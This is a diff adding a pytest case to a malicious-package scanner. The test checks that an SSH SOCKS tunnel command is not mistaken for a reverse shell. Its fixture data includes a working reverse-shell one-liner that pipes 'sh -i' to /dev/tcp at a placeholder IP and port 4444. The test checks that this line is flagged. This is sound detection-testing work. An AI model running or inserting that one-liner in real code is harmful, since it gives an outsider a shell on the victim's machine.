@@ -212,3 +212,13 @@ def test_every_rule_fires_and_stays_quiet_somewhere() -> None:
         assert rule.id.startswith(("PSB-RF-", "PSB-TRUST-", "PSB-ARCHIVE-", "PSB-DIR-", "PSB-INSTALL-"))
         assert rule.severity in ("low", "medium", "high") and rule.lone in (None, "low", "medium")
         assert rule.cwe > 0 and rule.title and rule.tactic_id.startswith("TA")
+
+
+def test_a_shell_marker_counts_only_as_a_word(tmp_path: Path) -> None:
+    """awscli's ``emr socks`` runs ``putty -ssh -i KEY ... -N -D 8157``, a SOCKS tunnel: the
+    ``sh -i`` inside ``-ssh -i`` is no shell. ``/bin/sh -i`` wired to a socket still is."""
+    tunnel = {PY: b"import subprocess\ndef socks(key, host):\n"
+                  b"    return subprocess.call(['putty', '-ssh', '-i', key, host, '-N', '-D', '8157'])\n"}
+    assert not [f for f in flags(tmp_path / "tunnel", tunnel) if f[0] == "PSB-RF-REVERSE-SHELL"]
+    shell = {PY: b"import subprocess\nsubprocess.call(['bash', '-c', 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'])\n"}
+    assert ("PSB-RF-REVERSE-SHELL", PY, 2, "high") in flags(tmp_path / "shell", shell)
